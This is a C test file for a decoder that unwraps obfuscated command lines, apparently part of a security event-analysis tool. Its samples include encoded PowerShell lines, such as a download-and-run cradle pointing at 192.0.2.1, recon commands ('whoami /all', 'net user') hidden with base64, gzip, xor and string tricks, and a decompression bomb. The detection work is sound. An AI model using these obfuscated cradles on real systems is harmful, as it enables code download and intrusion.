#include "event/decode_event.h"

#include "t.h"

static struct arena *arena;

struct sample {
    const char *text;
    const char *in;    /* what the last layer reads somewhere */
    const char *chain; /* of the last layer */
    unsigned hints;
};

/* "Invoke-Planted -DumpAll; whoami /all; net user" and others, as they are hidden. */
static const struct sample samples[] = {
    {"powershell -nop -enc "
     "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8Ad"
     "wBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhAC4AcA"
     "BzADEAIgApAA==",
     "-enc IEX (New-Object Net.WebClient).DownloadString(\"http://192.0.2.1/a.ps1\")",
     "base64, utf-16", DECODE_COMMAND},
    {"powershell -e ZABpAHIA", "powershell -e dir", "base64, utf-16", DECODE_COMMAND},
    {"powershell /EncodedCommand \"dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==\"", "\"whoami /all\"",
     "base64, utf-16", DECODE_COMMAND},
    {"x SW52b2tlLVBsYW50ZWQgLUR1bXBBbGw7IHdob2FtaSAvYWxsOyBuZXQgdXNlcg==",
     "Invoke-Planted -DumpAll; whoami /all; net user", "base64", 0},
    {"x SW52b2tlLVBsYW50ZWQgLUR1bXBBbGw7IHdob2FtaSAvYWxsOyBuZXQgdXNlcg",
     "Invoke-Planted -DumpAll; whoami /all; net user", "base64", 0},
    {"x SW52b2tlLVBsYW50ZWQgLUR1bXBBbGw7IHdob2FtaSAvYWxsOyBuZXQgdXNlc",
     "Invoke-Planted -DumpAll; whoami /all; net us", "base64", 0},
    {"x=SW52b2tlLVBsYW50ZWQgfn5-Pz8_Pj4-IG9mIHRoZSBzZXJ2ZXI=", "Planted ~~~\?\?\?>>>", "base64",
     0},
    {"https://host/path/SW52b2tlLVBsYW50ZWQgLUR1bXBBbGw7IHdob2FtaSAvYWxsOyBuZXQgdXNlcg",
     "Invoke-Planted -DumpAll; whoami /all; net user", "base64", 0},
    {"x "
     "\"SW52b2tlLVBsYW50ZWQgLUR1bXBBbGw7IHdob2FtaSAvYWxsOyBuZXQgdXNlcgpJbnZva2UtUGxh\r\nbnRlZCA"
     "tRHVtcEFsbDsgd2hvYW1pIC9hbGw7IG5ldCB1c2VyCkludm9rZS1QbGFudGVkIC1EdW1w\r\nQWxsOyB3aG9hbWkg"
     "L2FsbDsgbmV0IHVzZXIKSW52b2tlLVBsYW50ZWQgLUR1bXBBbGw7IHdob2Ft\r\naSAvYWxsOyBuZXQgdXNlcgo="
     "\"",
     "Invoke-Planted -DumpAll; whoami /all; net user\nInvoke-Planted -DumpAll; whoami /all; "
     "net user",
     "base64", 0},
    {"id=1027c4d1-c386-bbc4-cd61-3e30d8f16adf;x=SW52b2tlLVBsYW50ZWQgLUR1bXBBbGw7IHdo",
     "Invoke-Planted -DumpAll; wh", "base64", 0},
    {"FromBase64String('d2hvYW1p')", "('whoami')", "base64", 0},
    {"('SW52b2tlLVBsYW50ZWQg'+'LUR1bXBBbGw7IHdob2FtaSAvYWxsOyBuZXQgdXNlcg==')",
     "Invoke-Planted -DumpAll; whoami /all; net user", "joined strings, base64", 0},
    {"GzipStream(FromBase64String('H4sIAAAAAAAC//"
     "PMK8vPTtUNyEnMK0lNUdB1Kc0tcMzJsVYoz8hPzM1U0E8EcfJSSxRKi1OLAAv5l1wuAAAA'))",
     "Invoke-Planted -DumpAll; whoami /all; net user", "base64, gzip", 0},
    {"x eJzzzCvLz07VDchJzCtJTVHQdSnNLXDMybFWKM/IT8zNVNBPBHHyUksUSotTiwCBLxBH",
     "Invoke-Planted -DumpAll; whoami /all; net user", "base64, zlib", 0},
    {"IO.Compression.DeflateStream(FromBase64String('88wry89O1Q3IScwrSU1R0HUpzS1wzMmxVijPyE/"
     "MzVTQTwRx8lJLFEqLU4sA'))",
     "Invoke-Planted -DumpAll; whoami /all; net user", "base64, deflate", 0},
    {"powershell -enc "
     "SQBFAFgAKABGAHIAbwBtAEIAYQBzAGUANgA0AFMAdAByAGkAbgBnACgAJwBIADQAcwBJAEEAQQBBAEEAQQBBAEEAQ"
     "wAvAC8AUABNAEsAOAB2AFAAVAB0AFUATgB5AEUAbgBNAEsAMABsAE4AVQBkAEIAMQBLAGMAMAB0AGMATQB6AEoAcw"
     "BWAFkAbwB6ADgAaABQAHoATQAxAFUAMABFADgARQBjAGYASgBTAFMAeABSAEsAaQAxAE8ATABBAEEAdgA1AGwAMQB"
     "3AHUAQQBBAEEAQQAnACkAKQA=",
     "Invoke-Planted -DumpAll; whoami /all; net user", "base64, utf-16, base64, gzip",
     DECODE_COMMAND},
    {"x AEkAbgB2AG8AawBlAC0AUABsAGEAbgB0AGUAZAAgAC0AUwBlAHIAdgBlAHIAIAB4",
     "Invoke-Planted -Server x", "base64, utf-16 big endian", 0},
    {"FromBase64String('ak1VTEhGDnNPQk1XRkcDDmdWTlNiT08YA1RLTEJOSgMMQk9PGANNRlcDVlBGUQ=='); "
     "$b[$i] -bxor 0x23",
     "Invoke-Planted -DumpAll; whoami /all; net user", "base64, xor", 0},
    {"echo "
     "496e766f6b652d506c616e746564202d44756d70416c6c3b2077686f616d69202f616c6c3b206e65742075736"
     "572",
     "Invoke-Planted -DumpAll; whoami /all; net user", "hexadecimal", 0},
    {"echo 0x770068006F0061006D00690020002F0061006C006C00", "echo 0xwhoami /all",
     "hexadecimal, utf-16", 0},
    {"reg add x /d 77-68-6F-61-6D-69-20-2F-61-6C-6C", "/d whoami /all", "hexadecimal",
     DECODE_COMMAND},
    {"-join "
     "[char[]](73,110,118,111,107,101,45,80,108,97,110,116,101,100,32,45,68,117,109,112,65,108,"
     "108,59,32,119,104,111,97,109,105,32,47,97,108,108,59,32,110,101,116,32,117,115,101,114)",
     "Invoke-Planted -DumpAll; whoami /all; net user", "character codes", 0},
    {"[byte[]]$b = "
     "0x49,0x6e,0x76,0x6f,0x6b,0x65,0x2d,0x50,0x6c,0x61,0x6e,0x74,0x65,0x64,0x20,0x2d,0x44,"
     "0x75,0x6d,0x70,0x41,0x6c,0x6c,0x3b,0x20,0x77,0x68,0x6f,0x61,0x6d,0x69,0x20,0x2f,0x61,"
     "0x6c,0x6c,0x3b,0x20,0x6e,0x65,0x74,0x20,0x75,0x73,0x65,0x72",
     "Invoke-Planted -DumpAll; whoami /all; net user", "character codes", 0},
    {"[byte[]]$b = "
     "0x1f,0x8b,0x08,0x00,0x00,0x00,0x00,0x00,0x02,0xff,0xf3,0xcc,0x2b,0xcb,0xcf,0x4e,0xd5,"
     "0x0d,0xc8,0x49,0xcc,0x2b,0x49,0x4d,0x51,0xd0,0x75,0x29,0xcd,0x2d,0x70,0xcc,0xc9,0xb1,"
     "0x56,0x28,0xcf,0xc8,0x4f,0xcc,0xcd,0x54,0xd0,0x4f,0x04,0x71,0xf2,0x52,0x4b,0x14,0x4a,"
     "0x8b,0x53,0x8b,0x00,0x0b,0xf9,0x97,0x5c,0x2e,0x00,0x00,0x00",
     "Invoke-Planted -DumpAll; whoami /all; net user", "character codes, gzip", 0},
    {"$b=@(106,77,85,76,72,70,14,115,79,66,77,87,70,71,3,14,103,86,78,83,98,79,79,24,3,84,75,"
     "76,66,78,74,3,12,66,79,79,24,3,77,70,87,3,86,80,70,81); $b | %{ $_ -bxor 35 }",
     "Invoke-Planted -DumpAll; whoami /all; net user", "character codes, xor", 0},
    {"'73b69k88b32b104b101b108b108b111'-split'b' -split 'k' | %{[char][int]$_}", "'IEX hello'",
     "character codes", 0},
    {"-join('1001001 1000101 1011000 100000'.split(' ')|%{[char]([convert]::toint16($_,2))})",
     "'IEX '", "character codes", 0},
    {"-join('49 45 58 20 68 69'.split(' ')|%{[char]([convert]::toint16($_,16))})", "'IEX hi'",
     "character codes", 0},
    {"[char]73+[char]0x45+[char](88)", "'IEX'", "character codes, joined strings", 0},
    {"eval(String.fromCharCode(97, 108,101,114,116))", "eval(\"alert\")", "character codes", 0},
    {"x = Chr(87) & Chr(83) & \"cript\" & _\r\n \".Shell\"", "x = \"WScript.Shell\"",
     "character codes, joined strings", 0},
    {"&('i'+'e'+'x') (\"who\" + 'ami')", "&('iex') (\"whoami')", "joined strings", 0},
    {"(('Inv'+'oke')+'-Exp')+('res'+'sion')", "'Invoke-Expression'", "joined strings", 0},
    {"& (\"{2}{0}{1}\" -f \"voke-\",\"Expression\",\"In\") x", "\"Invoke-Expression\"",
     "format operator", 0},
    {"&(\"{1}{0}\"-f (\"{1}{0}\" -F 'x','e'),'i')", "\"iex\"", "format operator", 0},
    {"'IEXqwe foo'.Replace('qwe',' (x)').replace('foo','bar')", "'IEX (x) bar'",
     "replaced text", 0},
    {"('abcXdef' -creplace 'X','-') -replace 'abc',[char]39", "'-def",
     "character codes, replaced text", 0},
    {"'a.b' -replace '\\.','-'", "'a-b'", "replaced text", 0},
    {"'noisserpxE'[-1..-10] -join ''", "'Expression'", "reversed text", 0},
    {"$s='noisserpxE-ekovnI'; iex ($s[-1..-$s.length] -join '')", "'Invoke-Expression'",
     "reversed text", 0},
    {"x = StrReverse(\"llehS.tpircSW\")", "x = \"WScript.Shell\"", "reversed text", 0},
    {"'cba fed'.split('').reverse().join('')", "'def abc'", "reversed text", 0},
    {"[regex]::Matches('noisserpxE','.','RightToLeft')", "'Expression'", "reversed text", 0},
    {"I`E`X (N`ew-Obj`ect)", "IEX (New-Object)", "escape marks", 0},
    {"cmd /c p^o^w^e^r^shell c^alc", "cmd /c powershell calc", "escape marks", DECODE_COMMAND},
    {"pow\"\"ershell who''ami", "powershell whoami", "empty quotes", DECODE_COMMAND},
    {"unescape(\"%65%76%61%6c%28%22%61%22%29\")", "eval(\"a\")", "percent encoding", 0},
    {"unescape(\"%u0065%u0076%u0061%u006c\")", "eval", "percent encoding", 0},
    {"q=%2527%2520or%25201", "%27%20or%201", "percent encoding", DECODE_WEB},
    {"a=\"\\x57\\x53\\x63\\x72\\x69\\x70\\x74\"", "\"WScript\"", "escapes", 0},
    {"a=\"\\u0057\\u0053\\u0063\\u0072ipt\"", "\"WScript\"", "escapes", 0},
    {"<x>&#87;&#x53;&#99;ript</x>", "<x>WScript</x>", "entities", 0},
    {"$a='Invoke-';$B = \"Plan\"; iex ($a+$b + 'ted')", "iex ('Invoke-Planted')",
     "constants, joined strings", 0},
    {"$a='who';$b='ami'\n$c=$a+$b;$d='x '+$c;", "$d='x whoami'", "constants, joined strings",
     0},
};

/* What looks like an encoding and is none: ordinary commands, digests, dates, paths. */
static const char *const plain[] = {
    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
    "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /ua "
    "/installsource scheduler",
    "rundll32.exe C:\\WINDOWS\\system32\\PcaSvc.dll,PcaPatchSdbTask "
    "{6E0D2C4E-1B7A-4DB5-A6A2-000000000000}",
    "x 5d41402abc4b2a76b9719d911017c592 "
    "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    "SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,IMPHASH="
    "00000000000000000000000000000000",
    "tool --date 2021-03-03 10:11:12 10.0.19041.1 1,2,3,4,5,6,7,8,9,10,11,12,13",
    "x 20210303101112131415 3333333333333333",
    "Write-Host (\"abc\") -ForegroundColor Red; \"line`nnext\"",
    "$a -replace \"^x\",\"y\"; \"{0:N2}\" -f $x; \"{0}\" -f $y",
    "if ($a -match \"[^a]b\") { $a.Replace($b, \"c\") }",
    "%ProgramData%\\x %AppData% %CommonProgramFiles%",
    "\"C:\\x64\\user\\xaml.exe\"",
    "S-1-5-21-1234567890-1234567890-1234567890-1001",
    "eval(Request.Item[\"x\"],\"unsafe\")",
    "PowerShellVersionProviderHostApplicationSettings",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "rundll32 a.dll,#1 -e base64 12345678",
    "cmd /c echo 5^^2",
    "$a='x';$a='y';iex ($a+$b)",
    "$a=$b+1; $i++; $sum += $x; $a = 'x'; $a += 'y'",
    "$a='x'; Write-Host $a",
};

static struct decoded_list decoded(struct str text, unsigned hints)
{
    struct decoded_list list;
    arena_reset(arena);
    decode_text(text, hints, arena, &list);
    return list;
}

static void undoes_each_family(void)
{
    for (size_t i = 0; i < sizeof samples / sizeof *samples; i++) {
        const struct sample *s = &samples[i];
        struct decoded_list list = decoded(str_of(s->text), s->hints);
        T_OK(list.n > 0 && !list.cut);
        if (list.n == 0) {
            printf("nothing in: %s\n", s->text);
            continue;
        }
        const struct decoded *last = &list.at[list.n - 1];
        t_str(last->chain, str_of(s->chain), s->text, __FILE__, __LINE__);
        if (str_find(last->text, str_of(s->in), 0) == SIZE_MAX)
            t_str(last->text, str_of(s->in), s->text, __FILE__, __LINE__);
    }
}

static void leaves_other_text_alone(void)
{
    for (size_t i = 0; i < sizeof plain / sizeof *plain; i++) {
        struct decoded_list list = decoded(str_of(plain[i]), DECODE_COMMAND);
        T_EQ(list.n, 0);
        T_OK(!list.cut);
        if (list.n)
            printf("%s became %.*s\n", plain[i], STR_ARG(list.at[0].text));
    }
}

static void gives_every_layer(void)
{
    struct decoded_list list = decoded(STR("'d2hvYW1pIC'+'9wcml2IC9ncm91cHM='"), 0);
    T_EQ(list.n, 2);
    if (list.n != 2)
        return;
    T_STR(list.at[0].chain, "joined strings");
    T_EQ(list.at[0].n_parts, 0);
    T_STR(list.at[1].text, "'whoami /priv /groups'");
    T_EQ(list.at[1].n_parts, 1);
    T_STR(list.at[1].parts[0], "whoami /priv /groups");
}

static const char base64_digits[] =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static struct str encoded(struct str text, struct arena *to)
{
    size_t groups = (text.n + 2) / 3;
    char *out = ARENA_ARRAY(to, char, 4 * groups);
    for (size_t i = 0; i < groups; i++) {
        uint32_t bits = 0;
        for (size_t k = 0; k < 3; k++)
            bits = bits << 8 | (3 * i + k < text.n ? (unsigned char)text.p[3 * i + k] : 0U);
        for (size_t k = 0; k < 4; k++)
            out[4 * i + k] = base64_digits[bits >> (18 - 6 * k) & 63];
    }
    return (struct str){out, 4 * groups};
}

static void stops_at_its_depth(void)
{
    struct arena *own = arena_new();
    struct str text = STR("Invoke-Planted -DumpAll all");
    for (size_t i = 1; i <= DECODE_LAYERS + 2; i++) {
        text = encoded(text, own);
        struct decoded_list list = decoded(text, 0);
        T_EQ(list.n, i < DECODE_LAYERS ? i : DECODE_LAYERS);
        T_EQ(list.cut, i > DECODE_LAYERS); /* what is left undone is told */
    }
    arena_free(own);
}

static void stops_at_its_size(void)
{
    char *big = malloc((size_t)DECODE_TEXT_MAX + 1);
    if (!big)
        abort();
    memset(big, 'A', (size_t)DECODE_TEXT_MAX + 1);
    T_OK(decoded((struct str){big, (size_t)DECODE_TEXT_MAX + 1}, 0).cut);
    T_OK(!decoded((struct str){big, DECODE_TEXT_MAX}, 0).cut);
    free(big);
}

/* 6291456 bytes of 'A', 112 of them packed: a bomb is opened up to its limit. */
static const char bomb[] =
    "H4sIAAAAAAAC/5Pv5mAAAab/bw41CgAZzIpTV+7Zf8VlVxYjwygYBaNgFIyCUTAKRsEoGAWjYBSMglEw"
    "CoY52BNrsQw0BCBwZf9WwxqJ0QAZBaNgFIyCUTAKhgEw4DrUMWsXA0MCAwD251daBBgAAA==";

static void bounds_a_bomb(void)
{
    struct decoded_list list = decoded(str_of(bomb), 0);
    T_OK(list.cut);
    for (size_t i = 0; i < list.n; i++)
        T_OK(list.at[i].text.n <= (size_t)DECODE_TEXT_MAX);
}

/* A text of `n` pieces behind a start. */
static struct str repeated(const char *start, const char *piece, size_t n, struct arena *own)
{
    size_t step = strlen(piece);
    size_t at = strlen(start);
    char *out = ARENA_ARRAY(own, char, at + n * step);
    memcpy(out, start, at);
    for (size_t i = 0; i < n; i++, at += step)
        memcpy(out + at, piece, step);
    return (struct str){out, at};
}

/* What a text would become costs no more than a text may have, however often it names it. */
static void bounds_what_is_made(void)
{
    enum { MEMORY_MAX = 64 << 20 };
    struct arena *own = arena_new();
    struct arena *made = arena_new();
    struct decoded_list list;
    char many[1024];
    memset(many, 'x', sizeof many);
    struct str constant = arena_printf(own, "$a='%.*s';", (int)sizeof many, many);
    struct str site =
        arena_printf(own, "('{0}{0}{0}{0}{0}{0}{0}{0}' -f '%.*s');", (int)sizeof many, many);
    decode_text(repeated(constant.p, "$a+", 200000, own), 0, made, &list);
    T_OK(list.cut);
    T_OK(arena_used(made) < MEMORY_MAX);
    arena_reset(made);
    decode_text(repeated("", site.p, 6000, own), 0, made, &list);
    T_OK(list.cut);
    T_OK(arena_used(made) < MEMORY_MAX);
    arena_reset(made);
    struct str packed = arena_printf(own, "%s ", bomb);
    decode_text(repeated("", packed.p, 200, own), 0, made, &list);
    T_OK(list.cut);
    T_OK(arena_used(made) < 2 * (size_t)MEMORY_MAX);
    arena_free(made);
    arena_free(own);
}

/* A look at all of the text for each of many pieces, or a product of two lengths, would not
 * end within the time of a test. */
static void costs_no_product(void)
{
    struct arena *own = arena_new();
    (void)decoded(repeated("$k -bxor 0; ", "QUJDREVGR0hJSktM ", 60000, own), 0);
    struct str text = repeated("'", "a", 900000, own);
    struct str old = repeated("", "a", 400000, own);
    (void)decoded(
        arena_printf(own, "%.*s' -replace '%.*sb','c'", (int)text.n, text.p, (int)old.n, old.p),
        0);
    (void)decoded(arena_printf(own, "%.*s' -creplace '%.*sb','c'", (int)text.n, text.p,
                               (int)old.n, old.p),
                  0);
    arena_free(own);
}

static void finds_a_program(void)
{
    static const char text[] = "x "
                               "TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
                               "AAAAAAAAAAAAAAAAAQAAAAFBFAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==";
    struct decoded_list list = decoded(str_of(text), 0);
    T_EQ(list.n, 1);
    if (list.n != 1)
        return;
    T_STR(list.at[0].chain, "base64, a program");
    T_STR(list.at[0].program,
          "55a71028a1279df85fb9011e6e00a63e01b08a4fbb08a8811e70abf934c1f790");
    T_OK(str_eq(list.at[0].text, str_of(text))); /* which stays as it is */
}

static void keeps_text_valid(struct bytes raw)
{
    (void)decoded((struct str){(const char *)raw.p, raw.n}, DECODE_COMMAND);
}

static void stands_any_text(void)
{
    for (size_t i = 0; i < sizeof samples / sizeof *samples; i++) {
        struct str s = str_of(samples[i].text);
        t_each_prefix(str_bytes(s), keeps_text_valid);
        uint8_t *copy = malloc(s.n);
        if (!copy)
            abort();
        for (size_t bit = 0; bit < 8 * s.n; bit += 3) {
            memcpy(copy, s.p, s.n);
            copy[bit / 8] = (uint8_t)(copy[bit / 8] ^ 1 << bit % 8);
            keeps_text_valid((struct bytes){copy, s.n});
        }
        free(copy);
    }
}

static void same_list(const struct decoded_list *a, const struct decoded_list *b)
{
    T_EQ(a->n, b->n);
    T_EQ(a->cut, b->cut);
    for (size_t i = 0; i < a->n && i < b->n; i++) {
        T_OK(str_eq(a->at[i].text, b->at[i].text));
        T_OK(str_eq(a->at[i].chain, b->at[i].chain));
        T_OK(str_eq(a->at[i].program, b->at[i].program));
        T_EQ(a->at[i].n_parts, b->at[i].n_parts);
        for (size_t k = 0; k < a->at[i].n_parts && k < b->at[i].n_parts; k++)
            T_OK(str_eq(a->at[i].parts[k], b->at[i].parts[k]));
    }
}

/* Many more texts than there is room for: some are known when they come again, others not. */
static void knows_what_it_has_seen(void)
{
    struct arena *own = arena_new();
    struct decode_known *known = decode_known_new(own);
    for (size_t k = 0; k < 60; k++) {
        struct arena *one = arena_new();
        struct str filler = repeated("", "lorem ipsum ", 100 * k, one);
        for (size_t i = k % 5; i < sizeof samples / sizeof *samples; i += 23) {
            struct decoded_list list;
            struct decoded_list again;
            struct str text = arena_printf(one, "%s %.*s", samples[i].text, STR_ARG(filler));
            decode_known_turn(known);
            decode_text(text, samples[i].hints, one, &list);
            decode_known_text(known, text, samples[i].hints, one, &again);
            same_list(&list, &again);
            decode_known_text(known, text, samples[i].hints, one, &again);
            same_list(&list, &again);
            decode_known_text(known, text, samples[i].hints ^ DECODE_WEB, one, &again);
            decode_text(text, samples[i].hints ^ DECODE_WEB, one, &list);
            same_list(&list, &again);
        }
        arena_free(one);
    }
    arena_free(own);
}

static void tells_whether_an_event_hides_anything(void)
{
    struct arena *own = arena_new();
    struct decode_known *known = decode_known_new(own);
    for (int round = 0; round < 2; round++) {
        for (size_t i = 0; i < sizeof samples / sizeof *samples; i++) {
            struct event ev = {.kind = EVENT_WINDOWS};
            struct decoded_events all;
            event_add(&ev, own, SECTION_DATA, FIELD_TEXT, STR("CommandLine"),
                      str_of(samples[i].text));
            decode_event(&ev, own, &all);
            T_EQ(decode_event_may(&ev, known, own), all.n > 0 || all.cut);
            ev.fields[0].name = STR("CommandLine2");
            T_OK(!decode_event_may(&ev, known, own));
        }
    }
    arena_free(own);
}

int main(void)
{
    arena = arena_new();
    T_RUN(undoes_each_family);
    T_RUN(leaves_other_text_alone);
    T_RUN(gives_every_layer);
    T_RUN(stops_at_its_depth);
    T_RUN(stops_at_its_size);
    T_RUN(bounds_a_bomb);
    T_RUN(bounds_what_is_made);
    T_RUN(costs_no_product);
    T_RUN(finds_a_program);
    T_RUN(stands_any_text);
    T_RUN(knows_what_it_has_seen);
    T_RUN(tells_whether_an_event_hides_anything);
    arena_free(arena);
    return t_done();
}
